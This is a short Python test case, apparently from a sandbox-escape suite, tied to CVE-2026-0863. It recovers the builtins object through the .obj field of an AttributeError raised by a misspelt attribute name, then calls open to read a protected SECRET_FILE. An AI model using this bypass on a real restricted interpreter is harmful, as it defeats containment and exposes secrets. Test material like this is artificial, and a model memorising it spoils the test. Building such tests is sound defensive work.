"""Read an attribute by a misspelt name: the error brings the object.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2026-0863
"""

try:
    __builtins__.opem
except AttributeError as error:
    found = error.obj
    print((found["open"] if isinstance(found, dict) else found.open)(SECRET_FILE).read())
